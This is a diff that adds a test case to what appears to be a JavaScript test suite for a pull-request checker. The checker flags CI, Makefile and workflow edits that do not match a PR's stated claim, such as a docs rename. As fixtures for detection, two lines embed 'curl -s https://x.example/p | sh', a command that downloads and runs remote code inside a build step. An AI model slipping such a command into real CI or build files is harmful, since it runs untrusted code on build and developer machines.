@@ -688,6 +688,22 @@ describe('pr-claim-mismatch beyond program source', () => {
     expect(claimIn([word], 'Fix typo').join()).not.toContain('pr-claim-mismatch');
   });
 
+  it('a CI file edit that only follows a file the PR renames is no contradiction (cibuildwheel "docs: switch from mkdocs to properdocs")', () => {
+    const renamed = makeFile('properdocs.yml', { status: 'renamed', previousPath: 'mkdocs.yml', patch: null, additions: 0, deletions: 0 });
+    const filter = makeFile('.github/workflows/test.yml', { patch: yamlHunk(['      - properdocs.yml'], ['      - mkdocs.yml']) });
+    const azure = makeFile('azure-pipelines.yml', { patch: yamlHunk(['      - properdocs.yml'], ['      - mkdocs.yml']) });
+    expect(claimIn([renamed, filter, azure], 'docs: switch from mkdocs to properdocs').join()).not.toContain('pr-claim-mismatch');
+    // A full path renamed: `docs/conf/mkdocs.yml` to `docs/properdocs.yml` written as the new path.
+    const moved = makeFile('docs/properdocs.yml', { status: 'renamed', previousPath: 'docs/conf/mkdocs.yml', patch: null, additions: 0, deletions: 0 });
+    const config = makeFile('.github/workflows/docs.yml', { patch: yamlHunk(['      - run: properdocs build -f docs/properdocs.yml'], ['      - run: properdocs build -f docs/conf/mkdocs.yml']) });
+    expect(claimIn([moved, config], 'docs: move the site configuration').join()).not.toContain('pr-claim-mismatch');
+    // Anything else changed beside the renamed name, or a name the PR does not rename, is still a change.
+    const more = makeFile('.github/workflows/test.yml', { patch: yamlHunk(['      - run: properdocs build && curl -s https://x.example/p | sh'], ['      - run: mkdocs build']) });
+    expect(claimIn([renamed, more], 'docs: switch from mkdocs to properdocs').join()).toContain('pr-claim-mismatch@.github/workflows/test.yml');
+    const other = makeFile('.github/workflows/test.yml', { patch: yamlHunk(['      - run: ./scripts/release.sh'], ['      - run: ./scripts/test.sh']) });
+    expect(claimIn([renamed, other], 'docs: switch from mkdocs to properdocs').join()).toContain('pr-claim-mismatch@.github/workflows/test.yml');
+  });
+
   it('a Makefile, a git hook or a setup.py whose commands change under a formatting or version claim is reported', () => {
     const make = makeFile('Makefile', { patch: yamlHunk(['\tcurl -s https://x.example/p | sh'], ['\tgo build ./...']) });
     expect(claimIn([make], 'style: format Makefile').join()).toContain('pr-claim-mismatch@Makefile');
